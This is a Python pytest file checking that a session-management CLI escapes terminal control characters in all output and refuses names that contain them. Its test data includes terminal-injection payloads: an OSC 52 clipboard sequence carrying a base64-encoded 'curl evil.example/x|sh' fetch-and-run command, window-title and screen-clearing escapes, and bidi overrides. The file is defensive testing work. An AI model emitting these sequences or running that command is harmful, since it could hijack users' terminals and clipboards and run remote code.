"""The CLI's output never acts on the terminal (issue 13, item 5): every command, over a session whose
every text field holds escape sequences (OSC 52 clipboard, OSC 0 title, hidden text, CSI as U+009B),
bidi overrides and line breaks, prints no raw control character (only line breaks between lines),
and names with control characters are refused."""

from __future__ import annotations

import io
import json
import sys

import pytest

from facilitator.base.errors import FacilitatorError
from facilitator.base.terminal_text import is_control, json_shown, shown
from facilitator.cli import main
from facilitator.domain.demo import build_demo_session
from facilitator.domain.model import Session
from facilitator.storage.store import SessionStore

HOSTILE = [
    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUveHxzaA==\x07",  # OSC 52: put `curl evil.example/x|sh` on the clipboard
    "\x1b]0;pwned\x07",  # OSC 0: the window title
    "\x1b[8mhidden",  # everything after it invisible
    "\x9b2J",  # C1 CSI: clear the screen
    "\u202eevil\u202c",  # right-to-left override
    "a\rb\x7f\x00c\u2028d",
]
HOSTILE_TEXT = "".join(HOSTILE) + "\nsecond line"
SKIP_KEYS = {
    "id",
    "key",
    "date",
    "kind",
    "saved_at",
    "created_at",
    "schema",
    "version",
    "step",
    "checklist_version",
    "status",
    "follows",
    "at",
    "due",
    "score",
    "agreed",
}


class Terminal(io.TextIOWrapper):
    """Standard output that says it is a terminal, and keeps every byte written to it."""

    def __init__(self) -> None:
        super().__init__(io.BytesIO(), encoding="utf-8", write_through=True)

    def isatty(self) -> bool:
        return True

    def text(self) -> str:
        self.flush()
        return self.buffer.getvalue().decode("utf-8")


def _hostile_session() -> Session:
    """The demo session with hostile text put in every text field the model accepts it in."""
    document = build_demo_session().to_dict()

    def leaves(node, path=()):
        if isinstance(node, dict):
            for key, value in node.items():
                yield from leaves(value, (*path, key))
        elif isinstance(node, list):
            for index, value in enumerate(node):
                yield from leaves(value, (*path, index))
        elif isinstance(node, str) and node and path and path[-1] not in SKIP_KEYS:
            yield path

    def put(doc, path, value):
        for step in path[:-1]:
            doc = doc[step]
        doc[path[-1]] = value

    taken = 0
    for path in list(leaves(document)):
        trial = json.loads(json.dumps(document))
        put(trial, path, HOSTILE_TEXT)
        try:
            Session.from_dict(trial)
        except FacilitatorError:
            continue  # a name, an enum: the model refuses control characters there (tested below)
        put(document, path, HOSTILE_TEXT)
        taken += 1
    assert taken >= 20, "hostile text reached too few fields to mean anything"
    return Session.from_dict(document)


def _run(monkeypatch, *args: str) -> tuple[int, str, str]:
    out, err = Terminal(), Terminal()
    monkeypatch.setattr(sys, "stdout", out)
    monkeypatch.setattr(sys, "stderr", err)
    monkeypatch.setattr(sys, "argv", ["facilitator", *args])
    code = main(list(args))
    monkeypatch.undo()
    return code, out.text(), err.text()


def _raw_controls(text: str) -> list[str]:
    return sorted({repr(c) for c in text if is_control(c) and c != "\n"})


@pytest.fixture
def hostile(tmp_path):
    store = SessionStore(tmp_path / "data")
    session = _hostile_session()
    store.import_document(session.to_dict())
    (tmp_path / "data" / "odd\nname\x1b]0;x\x07.json").write_text("{not json", encoding="utf-8")
    return tmp_path / "data", session


def test_every_command_prints_no_raw_control_character(hostile, monkeypatch, tmp_path):
    data_dir, session = hostile
    commands = [
        ["list"],
        ["list", "--json"],
        ["show", session.id],
        ["export", session.id],
        ["export", session.id, "--document", "scorecard"],
        ["export", session.id, "--changes-since"],
        ["history", session.id],
        ["history", session.id, "--json"],
        ["dump", session.id],
        ["export", session.id, "-o", str(tmp_path / "out\x1b]0;t\x07.md")],
        ["new", "--alliance", "\x1b[2J", "--partner", "A", "--partner", "B"],
        ["show", "\x1b]52;c;eA==\x07"],
    ]
    for command in commands:
        code, out, err = _run(monkeypatch, "--data-dir", str(data_dir), *command)
        assert not _raw_controls(out), f"{command}: raw {_raw_controls(out)} on standard output"
        assert not _raw_controls(err), f"{command}: raw {_raw_controls(err)} on standard error"
        assert out or err, command
    # Escaped, not dropped: the text is still all there to read.
    _code, out, _err = _run(monkeypatch, "--data-dir", str(data_dir), "show", session.id)
    assert shown(HOSTILE[0]) in out


def test_json_output_keeps_the_data_and_escapes_what_json_leaves_raw(hostile, monkeypatch):
    data_dir, session = hostile
    _code, out, _err = _run(monkeypatch, "--data-dir", str(data_dir), "dump", session.id)
    assert "\\u009b" in out and "\\u202e" in out
    dumped = json.loads(out)
    assert dumped["sections"] == session.to_dict()["sections"]  # the same data for `load`
    assert json.dumps(HOSTILE_TEXT) in json.dumps(dumped)
    _code, out, _err = _run(monkeypatch, "--data-dir", str(data_dir), "list", "--json")
    json.loads(out)


def test_a_table_row_stays_one_line_whatever_a_file_is_called(hostile, monkeypatch):
    data_dir, _session = hostile
    _code, out, _err = _run(monkeypatch, "--data-dir", str(data_dir), "list")
    assert "odd\\nname\\x1b]0;x\\x07.json" in out


@pytest.mark.parametrize("name", ["\x1b[2J", "Acme\x1b]0;x\x07", "Evil\u202eCorp", "Tab\there", "C1\x9b"])
def test_names_with_control_characters_are_refused(name, monkeypatch, tmp_path):
    code, out, err = _run(
        monkeypatch, "--data-dir", str(tmp_path / "data"), "new", "--alliance", name, "--partner", "A", "--partner", "B"
    )
    assert code == 1 and "control characters" in err and not out
    code, out, err = _run(
        monkeypatch,
        "--data-dir",
        str(tmp_path / "data"),
        "new",
        "--alliance",
        "Fine",
        "--partner",
        name,
        "--partner",
        "B",
    )
    assert code == 1 and "control characters" in err


def test_a_shared_file_with_an_escape_in_a_name_is_refused_not_shown(monkeypatch, tmp_path):
    document = build_demo_session().to_dict()
    document["alliance"] = "Coastal\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUveHxzaA==\x07"
    shared = tmp_path / "shared.json"
    shared.write_text(json.dumps(document), encoding="utf-8")
    code, out, err = _run(monkeypatch, "--data-dir", str(tmp_path / "data"), "load", str(shared))
    assert code == 1 and not _raw_controls(err) and "control characters" in err


def test_json_shown_is_valid_json_for_every_control():
    every = "".join(chr(c) for c in [*range(0x20), 0x7F, *range(0x80, 0xA0), 0x2028, 0x2029, 0x202E, 0x2066])
    text = json_shown(json.dumps({"v": every}, ensure_ascii=False))
    assert not _raw_controls(text) and json.loads(text) == {"v": every}
